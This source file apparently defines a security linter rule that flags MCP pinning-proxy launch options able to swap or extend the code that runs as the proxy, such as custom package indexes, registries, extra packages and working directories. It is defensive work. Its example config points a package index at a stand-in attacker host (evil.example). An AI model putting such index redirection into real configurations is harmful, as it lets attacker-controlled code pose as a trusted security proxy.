import { defineRule } from './types.js';

export const launchOptionInjection = defineRule({
  id: 'launch-option-injection',
  severity: 'high',
  grade: 'unverifiable',
  claim: 'program',
  since: '0.1.0',
  identity: ['what'],
  title: "Launch options can swap or extend what runs as the proxy",
  message: "{{server}} {{what}}, so what runs as {{proxy}} is not necessarily the proxy",
  docs: {
    meaning: "The command that starts the pinning proxy carries an option that changes where its package comes from (`--index-url`, `--registry`, `--config-file`, `--from` another package), adds code to its runtime (`--with`, `--node-options`, `--python`, a shell `--rcfile`), or changes the project or working directory it runs from (`uv run --directory`, an entry `cwd` with `python -m`).",
    whyItMatters: "Whoever controls that index, registry, file or directory decides what code answers as the proxy; a substitute can report every pin as matching while forwarding drifted tools.",
    howToFix: "Launch the proxy exactly as its vendor documents it (e.g. `uvx --from mcpindex-gate mcpindex-proxy …`, `npx -y mcp-pin@<ver> -- …`) with no index, registry, config-file, extra-package or directory options, and no `cwd` for a `python -m` proxy. Pin indexes in your user-level uv/npm configuration instead.",
    example: "\"args\": [\"--index-url\", \"https://evil.example/simple\", \"--from\", \"mcpindex-gate\", \"mcpindex-proxy\", \"--mcpindex-stdio\"]",
  },
});
